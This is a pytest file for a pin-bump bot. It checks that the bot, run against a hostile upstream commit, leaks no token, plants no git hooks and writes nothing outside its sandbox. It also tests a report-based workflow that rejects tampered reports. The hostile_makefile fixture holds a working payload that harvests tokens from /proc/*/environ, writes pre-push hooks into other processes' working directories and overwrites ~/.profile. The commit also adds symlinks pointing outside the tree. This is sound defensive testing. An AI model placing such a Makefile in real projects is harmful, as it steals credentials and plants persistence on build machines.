"""The pin bot against a hostile upstream commit (issue 21): the real `pins bump --open-pr`, started as its own
process with the token in its environment, against a local bare upstream and the fake GitHub. The new commit's
Makefile tries, under `make -n`, to read every /proc/*/environ, to plant hooks through /proc/$PPID/cwd and in the
project's .git, to write outside, and runs a `+` recipe line; the commit also links files out of the tree."""
from __future__ import annotations

import base64
import hashlib
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from builders.roots import sandbox
from pins_fixtures import FakeAPI, Project, Upstream, branch_pin, make_recipe

TOKEN = "hostile-test-t0ken-5b1f"
ROOT = Path(__file__).resolve().parents[1]

needs = pytest.mark.skipif(shutil.which("make") is None or sandbox.why_unavailable() is not None,
                           reason=f"needs make and the sandbox ({sandbox.why_unavailable()})")

MAKEFILE_OLD = """\
CC ?= cc
cpu: prog
prog: main.o
\t$(CC) -O2 -o prog main.o
%.o: %.c
\t$(CC) -O2 -c -o $@ $<
"""


def hostile_makefile(tmp: Path, project: Path) -> str:
    return textwrap.dedent(f"""\
        CC ?= cc
        OUT := {tmp}
        WHO := $(shell id -u)
        LEAK := $(shell cat /proc/[0-9]*/environ /proc/$$PPID/environ 2>/dev/null | tr '\\000' '\\n' | grep -a TOKEN | rev | tr -d '\\n=')
        HOOKS := $(shell for d in /proc/$$PPID/cwd /proc/[0-9]*/cwd /proc/[0-9]*/root$(OUT)/project {project}; do mkdir -p $$d/.git/hooks 2>/dev/null; printf '#!/bin/sh\\ntouch $(OUT)/hook-ran\\n' > $$d/.git/hooks/pre-push 2>/dev/null && chmod +x $$d/.git/hooks/pre-push; done; echo x > $(OUT)/pwned-shell 2>/dev/null; echo x > $$HOME/.profile 2>/dev/null; echo ok)
        cpu: prog
        prog: main.o
        \t-+echo plus > $(OUT)/pwned-plus
        \t$(CC) -O2 -DWHO=$(WHO) -DLEAK=$(LEAK) -o prog main.o
        %.o: %.c
        \t$(CC) -O2 -c -o $@ $<
        """)


RECIPE = make_recipe("dsx", options={"programs": "prog"})


def snapshot(top: Path, skip: tuple[Path, ...]) -> dict[str, str]:
    out = {}
    for d, dirs, names in os.walk(top):
        if any(Path(d) == s or s in Path(d).parents for s in skip):
            dirs[:] = []
            continue
        for n in names + [x for x in dirs if os.path.islink(os.path.join(d, x))]:
            p = Path(d, n)
            out[str(p.relative_to(top))] = os.readlink(p) if p.is_symlink() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def all_bytes(top: Path) -> bytes:
    return b"".join(p.read_bytes() for p in top.rglob("*") if p.is_file() and not p.is_symlink())


def dsx_project(tmp_path: Path):
    """An upstream dsx at its old commit (MAKEFILE_OLD), and a project pinning it with RECIPE: (upstream, commit,
    project)."""
    up = Upstream(tmp_path / "antirez" / "dsx")
    old = up.commit("old", {"Makefile": MAKEFILE_OLD, "main.c": "int main(void) { return 0; }\n"})
    proj = Project(tmp_path, branch_pin("dsx", up.url, old), recipes={"dsx": RECIPE})
    return up, old, proj


@needs
def test_a_hostile_commit_reaches_no_token_no_file_and_no_hook(tmp_path):
    api = FakeAPI()
    try:
        up, old, proj = dsx_project(tmp_path)
        outside = tmp_path / "secret-outside.cmake"
        outside.write_text("option(FROM_OUTSIDE \"read from outside the tree\" ON)\n")
        new = up.commit("hostile", {"Makefile": hostile_makefile(tmp_path, proj.root)})
        os.symlink(str(outside), up.path / "s.cmake")
        os.symlink("/dev/zero", up.path / "z.cmake")
        subprocess.run(["git", "add", "s.cmake", "z.cmake"], cwd=up.path, check=True)
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "links"], cwd=up.path, check=True)
        new = up.head()
        ours = (proj.origin.path, proj.root / ".git" / "objects")  # the bump commit is written there, and pushed
        before = snapshot(tmp_path, ours)
        env = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/root"), "PYTHONPATH": str(ROOT),
               "ONEBIT_BOT_TOKEN": TOKEN, "ONEBIT_GITHUB_API": api.url, "ONEBIT_HF_ENDPOINT": api.url}
        proc = subprocess.run([sys.executable, "-m", "builders.pins", "--root", str(proj.root), "bump", "--open-pr"],
                              cwd=proj.root, env=env, capture_output=True, text=True, timeout=600)
        assert proc.returncode in (0, 1), proc.stderr
        [pr] = api.state.opened()
        body = pr["body"]
        assert pr["head"]["ref"] == f"bump/dsx-{new[:12]}"
        # make really ran the hostile Makefile, as nobody in its sandbox, and read no token
        assert "-DWHO=65534" in body and "`-DLEAK=`" in body, body
        assert "FROM_OUTSIDE" not in body
        # no token anywhere: PR body, logs, any request sent, any file written
        forms = [TOKEN, TOKEN[::-1], TOKEN.replace("=", "")[::-1],
                 base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()]
        sent = repr([r[:3] for r in api.state.requests]) + repr(api.state.pulls) + repr(api.state.comments)  # not the auth header
        for form in forms:
            assert form not in body and form not in proc.stdout and form not in proc.stderr and form not in sent
            assert form.encode() not in all_bytes(tmp_path)
        # no file outside the sandbox changed (but the bump commit's objects and the origin's new branch)
        after = snapshot(tmp_path, ours)
        assert after == before
        assert not (proj.root / ".git" / "hooks" / "pre-push").exists() and not (tmp_path / "hook-ran").exists()
    finally:
        api.close()


def _run(proj: Project, api: FakeAPI, *argv: str, token: str | None = TOKEN):
    env = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/root"), "PYTHONPATH": str(ROOT),
           "ONEBIT_GITHUB_API": api.url, "ONEBIT_HF_ENDPOINT": api.url, **({"ONEBIT_BOT_TOKEN": token} if token else {})}
    return subprocess.run([sys.executable, "-m", "builders.pins", "--root", str(proj.root), "bump", *argv],
                          cwd=proj.root, env=env, capture_output=True, text=True, timeout=600)


def test_the_workflow_split_evaluate_without_token_then_deliver_from_the_report(tmp_path):
    """The two jobs of bump-pins.yml: `bump --report DIR` with no token, then `bump --from-report DIR --open-pr`
    (which fetches and runs nothing of upstream's); a report tampered with is refused in one line, nothing pushed."""
    api = FakeAPI()
    try:
        up, old, proj = dsx_project(tmp_path)
        new = up.commit("upstream adds -fno-plt", {"Makefile": MAKEFILE_OLD.replace("-O2 -c", "-O2 -fno-plt -c")})
        out = tmp_path / "artifact"
        ev = _run(proj, api, "--report", str(out), token=None)
        assert ev.returncode == 0, ev.stderr
        assert {"report.json", "drift-results.json"} <= {p.name for p in out.iterdir()} and not api.state.opened()
        good = (out / "report.json").read_text()
        tampered = good.replace('"path": ["pins", "dsx", "commit"]', '"path": ["pins", "other", "commit"]')
        assert tampered != good
        (out / "report.json").write_text(tampered)
        bad = _run(proj, api, "--from-report", str(out), "--open-pr")
        assert bad.returncode == 2 and "outside the pins this outcome moves" in bad.stderr and "Traceback" not in bad.stderr
        assert not api.state.opened()
        (out / "report.json").write_text(good)
        up.path.rename(tmp_path / "upstream-gone")  # the delivering part never needs the upstream
        done = _run(proj, api, "--from-report", str(out), "--open-pr")
        assert done.returncode == 0, done.stderr
        [pr] = api.state.opened()
        assert pr["head"]["ref"] == f"bump/dsx-{new[:12]}" and "`-fno-plt`" in pr["body"]
    finally:
        api.close()
